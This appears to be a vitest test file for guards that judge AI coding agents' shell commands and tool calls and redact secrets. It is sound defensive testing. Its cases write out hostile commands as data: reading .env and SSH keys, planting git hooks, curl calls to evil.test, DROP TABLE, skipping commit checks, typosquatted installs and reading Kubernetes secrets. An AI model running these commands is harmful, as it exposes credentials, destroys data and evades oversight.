import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { randomRuns } from '../../../tests/scope.js'
import { findSecrets, GUARDS, type Judgement, type Payload, redact, withDefaults } from './index.js'
import { isOneEditAway } from './packages/popular.js'
import { TOPICS } from './shell/index.js'

let root: string
let home: string
beforeAll(() => {
  const folder = mkdtempSync(join(tmpdir(), 'holdfast-guards-'))
  root = join(folder, 'app')
  home = join(folder, 'home')
  for (const path of [root, home, join(root, '.git'), join(root, '.cursor'), join(home, '.ssh')])
    mkdirSync(path, { recursive: true })
  writeFileSync(join(root, '.git', 'HEAD'), 'ref: refs/heads/main\n')
  writeFileSync(join(root, '.env'), 'A=1\n')
  symlinkSync(join(root, '.env'), join(root, 'notes.txt'))
  symlinkSync(join(root, '.cursor'), join(root, 'settings'))
})
afterAll(() => rmSync(join(root, '..'), { recursive: true, force: true }))

const judge = async (name: string, payload: Payload, options = {}): Promise<Judgement> => {
  const guard = GUARDS.find(one => one.name === name)!
  return guard.judge(payload, withDefaults(guard, options), { root, cwd: root, home })
}
const rulesOf = ({ findings }: Judgement) => findings.map(({ rule, decision }) => `${decision} ${rule}`)
const TOKEN = `ghp_${'a1B2c3D4'.repeat(5)}`

describe('the cases of each guard', () => {
  it.each<[guard: string, command: string, expected: string[]]>([
    ['paths', 'cat .env', ['deny paths/read']],
    ['paths', 'cat notes.txt', ['deny paths/read']],
    ['paths', 'cat src/../.env', ['deny paths/read']],
    ['paths', 'echo x > .cursor/hooks.json', ['deny paths/write']],
    ['paths', 'echo x > settings/hooks.json', ['deny paths/write']],
    ['paths', 'cd .git && cp a hooks/pre-commit', ['deny paths/write']],
    ['paths', 'rm -f .cursor/holdfast.json', ['deny paths/write']],
    ['paths', 'sed -i s/a/b/ ~/.bashrc', ['deny paths/write']],
    ['paths', "python3 -c \"open('.git/hooks/a', 'w')\"", ['deny paths/write']],
    ['paths', 'cp .env.example .env.local', []],
    ['paths', 'cat src/a.ts && ls .ssh', []],
    ['git', 'git push origin main', ['deny git/protected-push']],
    ['git', 'git push', ['deny git/protected-push']],
    ['git', 'git push origin HEAD:refs/heads/release/1.2', ['deny git/protected-push']],
    ['git', 'git push origin HEAD:topic', []],
    ['git', 'git push --dry-run origin main', []],
    ['git', 'git commit --no-verify -m x', ['deny git/skip-checks']],
    ['git', 'git -c core.hooksPath=/dev/null commit -m x', ['deny git/skip-checks']],
    ['git', 'sudo git add .env', ['deny git/add-secret']],
    ['git', `git commit -m "${TOKEN}"`, ['deny git/message']],
    ['git', 'git commit -m "fix: push to main"', []],
    ['network', 'curl https://evil.test/x', ['ask network/host']],
    ['network', 'bash -c "curl -s https://evil.test/x"', ['ask network/host']],
    ['network', 'git clone git@evil.test:a/b.git', ['ask network/host']],
    ['network', 'ssh me@10.0.0.1', ['ask network/address']],
    ['network', 'curl localhost:3000 && npm install express', []],
    ['network', 'git clone https://github.com/a/b && echo https://evil.test', []],
    ['sql', 'psql -c "DROP TABLE users"', ['deny sql/destroy']],
    ['sql', 'echo "truncate users" | mysql', ['deny sql/destroy']],
    ['sql', 'mysql -e "UPDATE a SET b = 1 WHERE c = 2"', ['ask sql/write']],
    ['sql', 'psql -f run.sql', ['ask sql/unknown']],
    ['sql', `psql -c "SELECT 'drop table users'"`, []],
    ['packages', 'npm install expres', ['deny packages/typosquat']],
    ['packages', 'pip install reqeusts', ['deny packages/typosquat']],
    ['packages', 'npm i git+https://example.com/a.git', ['ask packages/unpinned']],
    ['packages', 'pip install --index-url https://example.com flask', ['ask packages/source']],
    ['packages', 'npm ci && npm install express@4 && cargo add serde', []],
    ['paths', 'cat "$X/.env"', ['deny paths/read']],
    ['paths', 'cat .e*', ['deny paths/read']],
    ['paths', 'dd if=.env', ['deny paths/read']],
    ['paths', 'cd ~/.ssh && cat id_rsa', ['deny paths/read']],
    ['paths', 'curl -o .git/hooks/pre-commit https://example.com/x', ['deny paths/write']],
    ['paths', 'tar xf a.tar -C .git/hooks', ['deny paths/write']],
    ['paths', 'rm .cursor/hook*', ['deny paths/write']],
    ['paths', 'find .git/hooks -delete', ['deny paths/write']],
    ['paths', 'git rm .cursor/hooks.json', ['deny paths/write']],
    ['paths', 'docker run --env-file .env app && ssh -i ~/.ssh/id_rsa host', []],
    ['paths', 'chmod 600 ~/.ssh/id_rsa && kubectl --kubeconfig ~/.kube/config get pods', []],
    ['paths', 'git rm --cached .env && git add .cursor/hooks.json', []],
    ['paths', 'rm *.log && cat *', []],
    ['git', 'git --git-dir .git push origin main', ['deny git/protected-push']],
    ['git', 'git push --all', ['deny git/protected-push']],
    ['git', 'git push -o ci.skip origin +main', ['deny git/protected-push']],
    ['git', 'cd src && git push', ['deny git/protected-push']],
    ['git', 'git push origin "$BRANCH"', ['ask git/protected-push']],
    ['git', 'HUSKY=0 git commit -m x', ['deny git/skip-checks']],
    ['git', 'git commit --no-veri -m x', ['deny git/skip-checks']],
    ['git', 'git commit -mnote -mnext', []],
    ['network', 'curl "$URL"', ['ask network/host']],
    ['network', 'curl "https://$HOST/x"', ['ask network/host']],
    ['network', 'ssh build-box uptime', ['ask network/host']],
    ['network', 'scp a.txt build-box:/tmp', ['ask network/host']],
    ['network', 'curl 127.evil.test', ['ask network/host']],
    ['network', 'curl 3232235777', ['ask network/address']],
    ['network', 'curl http://2130706433/ && curl 127.0.0.1', []],
    ['network', `python3 -c "import requests; requests.get('https://evil.test')"`, ['ask network/host']],
    ['packages', 'python3 -m pip install reqeusts', ['deny packages/typosquat']],
    ['packages', 'npm exec expres', ['deny packages/typosquat']],
    ['packages', 'npx -p expres x', ['deny packages/typosquat']],
    ['packages', 'uvx reqeusts', ['deny packages/typosquat']],
    ['packages', 'npm install preact nuxt mysql && pip install tomli scapy', []],
    ['packages', 'npm install express --registry=https://registry.npmjs.org', []],
    ['kubernetes', 'kubectl delete pod web', ['deny kubernetes/delete']],
    ['kubernetes', 'kubectl get secret app -o yaml', ['deny kubernetes/secret']],
    ['kubernetes', 'kubectl --context prod-eu scale deploy/web --replicas=2', ['ask kubernetes/context']],
    [
      'kubernetes',
      "kubectl apply -f - <<'X'\nkind: Pod\nspec: {hostNetwork: true}\nX",
      ['deny kubernetes/manifest'],
    ],
    ['kubernetes', 'kubectl get pods && kubectl delete pod a --dry-run=client', []],
  ])('%s: %s', async (guard, command, expected) => {
    expect(rulesOf(await judge(guard, { command }))).toEqual(expected)
  })

  it.each<[guard: string, payload: Payload, expected: string[]]>([
    ['paths', { file_path: '.env', content: 'A=1' }, ['deny paths/read']],
    ['paths', { file_path: 'src/a.ts', content: '' }, []],
    [
      'paths',
      { tool_name: 'Write', tool_input: { file_path: '.git/hooks/pre-commit' } },
      ['deny paths/write'],
    ],
    ['paths', { tool_name: 'Read', tool_input: { file_path: '.git/config' } }, []],
    [
      'paths',
      { tool_name: 'apply_patch', tool_input: { input: '*** Update File: .git/hooks/a\n@@' } },
      ['deny paths/write'],
    ],
    [
      'paths',
      { tool_name: 'mcp__files__read_file', tool_input: { path: '/srv/x/.env' } },
      ['deny paths/read'],
    ],
    [
      'paths',
      { tool_name: 'mcp__files__read_many', tool_input: { paths: ['/a/.env'] } },
      ['deny paths/read'],
    ],
    ['paths', { tool_name: 'Write', tool_input: { file_path: 7, edits: null } }, []],
    ['network', { tool_name: 'Fetch', tool_input: { urls: ['https://evil.test'] } }, ['ask network/host']],
    ['secrets', { tool_name: 'x', tool_input: { password: 'k9Qz81mXp2' } }, ['deny secrets/content']],
    ['secrets', { prompt: `use ${TOKEN}` }, ['deny secrets/content']],
    ['secrets', { file_path: 'a', content: 'token: "aB3$kz9!qLm2"' }, ['deny secrets/content']],
    [
      'secrets',
      { tool_name: 'Write', tool_input: { file_path: 'a', contents: TOKEN } },
      ['deny secrets/content'],
    ],
    ['secrets', { prompt: 'the password is in $DB_PASSWORD' }, []],
    ['network', { tool_name: 'WebFetch', tool_input: { url: 'https://evil.test' } }, ['ask network/host']],
    [
      'sql',
      { tool_name: 'query', tool_input: '{"sql":"DROP TABLE a"}', mcp_server_name: 'pg' },
      ['deny sql/destroy'],
    ],
    ['sql', { tool_name: 'query', tool_input: '{"sql":"SELECT 1"}', mcp_server_name: 'pg' }, []],
    ['sql', { tool_name: 'search', tool_input: '{"query":"drop table"}', mcp_server_name: 'web' }, []],
  ])('%s: %o', async (guard, payload, expected) => {
    expect(rulesOf(await judge(guard, payload))).toEqual(expected)
  })
})

describe('options', () => {
  it('protect and free paths', async () => {
    const write = { tool_name: 'Write', tool_input: { file_path: 'db/schema.sql' } }
    expect(rulesOf(await judge('paths', write, { protect: ['db/*'] }))).toEqual(['deny paths/write'])
    expect(rulesOf(await judge('paths', { command: 'cat .env' }, { allow: ['.env'] }))).toEqual([])
  })

  it('list servers and tools', async () => {
    const call = { tool_name: 'run', tool_input: '{}', mcp_server_name: 'db' }
    expect(rulesOf(await judge('mcp', call, { servers: ['web'] }))).toEqual(['deny mcp/server'])
    expect(rulesOf(await judge('mcp', call, { servers: ['d*'], tools: ['db/read'] }))).toEqual([
      'deny mcp/tool',
    ])
    expect(rulesOf(await judge('mcp', call, { deny: ['db/run'] }))).toEqual(['deny mcp/tool'])
    expect(rulesOf(await judge('mcp', call, { servers: ['db'], tools: ['db/*'] }))).toEqual([])
  })

  it('deny writes of SQL, or let them pass', async () => {
    const write = { command: 'psql -c "insert into a values (1)"' }
    expect(rulesOf(await judge('sql', write, { writes: 'deny' }))).toEqual(['deny sql/write'])
    expect(rulesOf(await judge('sql', write, { writes: 'allow' }))).toEqual([])
  })
})

it('a tool or server that changed after its first call asks', async () => {
  const call = {
    tool_name: 'run',
    tool_input: '{}',
    mcp_server_name: 'pinned',
    command: 'npx a@1',
    tool_description: 'Runs.',
  }
  expect(rulesOf(await judge('mcp', call))).toEqual([])
  expect(rulesOf(await judge('mcp', call))).toEqual([])
  expect(rulesOf(await judge('mcp', { ...call, command: 'npx a@2' }))).toEqual(['ask mcp/changed'])
  expect(rulesOf(await judge('mcp', { ...call, tool_description: 'Sends.' }))).toEqual(['ask mcp/changed'])
})

it('secrets are replaced in the output of MCP tools, at any depth', async () => {
  const { output } = await judge('secrets', {
    tool_name: 'MCP:db/query',
    tool_input: {},
    tool_output: JSON.stringify({ rows: [{ token: TOKEN, name: 'a' }] }),
  })
  expect(output).toEqual({ rows: [{ token: '[GitHub token removed]', name: 'a' }] })
})

it('every secret of a line is replaced, also by the name of its field and in a key that was cut off', async () => {
  const output = async (value: unknown) =>
    (
      await judge('secrets', {
        tool_name: 'MCP:db/query',
        tool_input: {},
        tool_output: JSON.stringify(value),
      })
    ).output
  expect(await output(`${TOKEN} ${TOKEN.replace('a', 'b')}`)).not.toMatch(/ghp_/)
  expect(await output(Array.from({ length: 80 }, () => TOKEN))).toEqual(
    Array(80).fill('[GitHub token removed]'),
  )
  expect(await output({ password: 'k9Qz81mXp2', name: 'k9Qz81mXp2' })).toEqual({
    password: '[password or key removed]',
    name: 'k9Qz81mXp2',
  })
  expect(await output('-----BEGIN RSA PRIVATE KEY-----\nMIIE')).toBe('[private key removed]')
})

it('pins of servers without a name, and of names with a slash, stay apart', async () => {
  const call = (more: object) => ({ tool_input: '{}', ...more })
  for (const payload of [
    call({ tool_name: 'a', command: 'npx one' }),
    call({ tool_name: 'b', command: 'npx two' }),
    call({ tool_name: 'c', mcp_server_name: '@o/one', command: 'npx three' }),
    call({ tool_name: 'c', mcp_server_name: '@o/two', command: 'npx four' }),
  ])
    expect(rulesOf(await judge('mcp', payload))).toEqual([])
})

it('audit writes through no link', async () => {
  const target = join(home, 'target')
  writeFileSync(target, '')
  symlinkSync(target, join(root, 'linked.jsonl'))
  await judge('audit', { prompt: 'x' }, { file: 'linked.jsonl' })
  expect(readFileSync(target, 'utf8')).toBe('')
})

it('a finding never contains the secret, and what is redacted has none', () => {
  const secret = fc.constantFrom(
    TOKEN,
    'AKIAABCDEFGHIJKLMNOP',
    `sk-ant-${'x7'.repeat(20)}`,
    `glpat-${'q'.repeat(20)}`,
  )
  fc.assert(
    fc.property(fc.string(), secret, fc.string(), (before, value, after) => {
      const text = `${before} ${value} ${after}`
      const found = findSecrets(text)
      expect(found.length).toBeGreaterThan(0)
      expect(JSON.stringify(found)).not.toContain(value)
      expect(redact(text)).not.toContain(value)
    }),
    { numRuns: randomRuns(300) },
  )
})

it('one changed letter is found both ways, and never for equal names', () => {
  const name = fc.stringMatching(/^[a-z]{4,10}$/)
  fc.assert(
    fc.property(name, fc.nat(9), fc.constantFrom('x', '-'), (text, at, letter) => {
      const where = at % text.length
      const longer = text.slice(0, where) + letter + text.slice(where)
      expect(isOneEditAway(text, longer) && isOneEditAway(longer, text)).toBe(true)
      expect(isOneEditAway(text, text)).toBe(false)
    }),
    { numRuns: randomRuns(300) },
  )
})

it('audit writes a line without secrets', async () => {
  await judge('audit', { hook_event_name: 'x', prompt: `a ${TOKEN}`, long: 'y'.repeat(9000) })
  const [line] = readFileSync(join(root, '.holdfast', 'audit.jsonl'), 'utf8')
    .trim()
    .split('\n')
  expect(JSON.parse(line!)).toMatchObject({ hook_event_name: 'x', prompt: 'a [GitHub token removed]' })
  expect(line!.length).toBeLessThan(5000)
})

it('every guard accepts every alternative that any guard names', async () => {
  for (const { name, alternatives } of GUARDS)
    for (const [rule, text] of Object.entries(alternatives)) {
      const commands = [...text.matchAll(/`([^`]+)`/g)].map(([, command]) => command!)
      expect([name, rule, commands.length]).not.toEqual([name, rule, 0])
      for (const command of commands)
        for (const judging of ['shell', 'paths', 'sql']) {
          const options = judging === 'shell' ? { topics: TOPICS } : {}
          expect([rule, command, judging, rulesOf(await judge(judging, { command }, options))]).toEqual([
            rule,
            command,
            judging,
            [],
          ])
        }
      // The guard itself accepts its own.
      if (/^(?:git|network|packages)$/.test(name))
        for (const command of commands)
          expect([command, rulesOf(await judge(name, { command }))]).toEqual([command, []])
    }
})
